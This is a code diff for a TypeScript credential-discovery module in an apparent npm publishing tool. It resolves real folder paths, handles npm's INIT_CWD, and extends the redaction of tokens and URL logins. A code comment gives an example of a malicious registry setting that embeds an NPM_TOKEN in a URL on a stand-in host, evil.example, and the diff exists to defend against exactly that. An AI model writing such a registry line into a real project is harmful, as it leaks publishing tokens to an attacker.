@@ -1,6 +1,8 @@
 // SPDX-License-Identifier: Apache-2.0
+import { realpath } from 'node:fs/promises'
 import { userInfo } from 'node:os'
-import { dirname } from 'node:path'
+import { dirname, resolve } from 'node:path'
+import { BonafideError } from '@bonafide/core'
 import type { Place } from '@bonafide/core'
 import { findNpm, loadNpmChain } from '@bonafide/registry'
 import type { Credential, CredentialSource, FoundCredentials, PublishClient } from '../credential.ts'
@@ -23,9 +25,11 @@ import { viewYarn } from './yarn-view.ts'
 export async function findCredentials(source: CredentialSource): Promise<FoundCredentials> {
   const home = source.env['HOME'] || userInfo().homedir
   const env: CredentialSource['env'] = { ...source.env, HOME: home }
-  const own: CredentialSource = { ...source, env }
-  const manifest = await readPublishManifest(source.cwd)
-  const chain = await loadNpmChain(own)
+  // A client sees the folder behind a link, and looks upwards from there.
+  const cwd = await physical(source.cwd)
+  const own: CredentialSource = { ...source, cwd, env }
+  const manifest = await readPublishManifest(cwd)
+  const chain = await loadNpmChain({ ...own, cwd: await startOfNpm(cwd, env) })
   const npm = await viewNpm(own, chain, manifest)
   const rootHome = userInfo().uid === 0 ? '/usr/local/share' : null
   const found = await findNpm(env['PATH'], process.platform)
@@ -35,7 +39,7 @@ export async function findCredentials(source: CredentialSource): Promise<FoundCr
     await viewPnpm(own, home, manifest),
     await viewYarn(own, home, manifest),
     await viewYarnClassic(own, { home, rootHome, prefix }, manifest),
-    await viewBun(own, { home, root: chain.prefix }, manifest),
+    await viewBun(own, { home, root: (await loadNpmChain(own)).prefix }, manifest),
   ]
   const read = mergeReadings(views)
   const known = new Set(read.flatMap(({ place }) => (place.kind === 'variable' ? [place.name] : [])))
@@ -48,7 +52,11 @@ export async function findCredentials(source: CredentialSource): Promise<FoundCr
     package: manifest.name,
     registry: registries.npm ?? '',
     registries,
-    credentials: credentials.map((one) => ({ ...one, registry: one.registry === null ? null : hide(one.registry) })),
+    credentials: credentials.map((one) => ({
+      ...one,
+      key: hide(one.key),
+      registry: one.registry === null ? null : hide(one.registry),
+    })),
   }
 }
 
@@ -96,8 +104,27 @@ function placeId(place: Place): string {
   }
 }
 
-// A registry whose URL a project's file makes of a token: `registry=https://evil.example/${NPM_TOKEN}/`.
+/** Within a script of npm's, the folder in which npm was started: `npm publish dist` reads the configuration there, and not that of `dist`. */
+async function startOfNpm(cwd: string, env: CredentialSource['env']): Promise<string> {
+  const start = env['npm_lifecycle_event'] === undefined ? undefined : env['INIT_CWD']
+  return start === undefined || start === '' ? cwd : physical(start)
+}
+
+async function physical(folder: string): Promise<string> {
+  const path = resolve(folder)
+  try {
+    return await realpath(path)
+  } catch (cause) {
+    throw new BonafideError('BONAFIDE_CREDENTIALS_UNREADABLE', 'the folder to publish from cannot be read', {
+      path,
+      cause,
+    })
+  }
+}
+
+// A registry whose URL a project's file makes of a token, `registry=https://evil.example/${NPM_TOKEN}/`, and keys with a login in them.
 function hiding(credentials: readonly Credential[]): (text: string) => string {
   const secrets = credentials.flatMap(({ secret }) => secret?.reveal() ?? []).filter((text) => text.length >= 8)
-  return (text) => secrets.reduce((rest, secret) => rest.replaceAll(secret, '…'), text)
+  return (text) =>
+    secrets.reduce((rest, secret) => rest.replaceAll(secret, '…'), text).replaceAll(/\/\/[^/@]*@/gu, '//…@')
 }
